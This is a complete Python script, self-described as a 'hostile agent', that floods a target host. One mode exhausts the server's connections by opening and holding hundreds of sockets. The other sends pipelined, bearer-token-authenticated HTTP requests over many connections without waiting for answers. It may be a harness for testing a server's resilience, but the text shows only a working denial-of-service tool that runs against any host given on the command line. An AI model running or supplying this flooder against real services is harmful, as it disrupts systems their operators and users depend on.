"""A hostile agent, standard library only: ``python flooding_agent.py HOST PORT ADDRESS TOKEN SECONDS connections|requests``."""

from __future__ import annotations

import contextlib
import selectors
import socket
import sys
import time

HELD, AT_ONCE, PIPELINED = 300, 120, 20


def connection(host: str, port: int, address: str) -> socket.socket:
    made = socket.socket()
    made.setblocking(False)
    made.bind((address, 0))
    with contextlib.suppress(BlockingIOError):
        made.connect((host, port))
    return made


def connections(where: tuple[str, int, str], until: float) -> int:
    """Open as many as can be, and say nothing."""
    held: list[socket.socket] = []
    count = 0
    while time.monotonic() < until:
        with contextlib.suppress(OSError):
            held.append(connection(*where))
            count += 1
        if len(held) > HELD:
            held.pop(0).close()
    return count


def requests(where: tuple[str, int, str], token: str, until: float) -> int:
    """Send requests over many connections without waiting for answers."""
    said = f"GET /tools HTTP/1.1\r\nHost: x\r\nAuthorization: Bearer {token}\r\n\r\n".encode() * PIPELINED
    count = 0
    with selectors.DefaultSelector() as selector:
        while time.monotonic() < until:
            while len(selector.get_map()) < AT_ONCE:
                selector.register(connection(*where), selectors.EVENT_READ | selectors.EVENT_WRITE)
            for key, ready in selector.select(0.01):
                here = key.fileobj
                assert isinstance(here, socket.socket)
                try:
                    if ready & selectors.EVENT_READ and not here.recv(65536):
                        raise ConnectionResetError
                    if ready & selectors.EVENT_WRITE:
                        count += here.send(said) * PIPELINED // len(said)
                except BlockingIOError:
                    continue
                except OSError:
                    selector.unregister(here)
                    here.close()
    return count


if __name__ == "__main__":
    host, port, address, token, seconds, kind = sys.argv[1:]
    end = time.monotonic() + float(seconds)
    place = (host, int(port), address)
    print(connections(place, end) if kind == "connections" else requests(place, token, end))
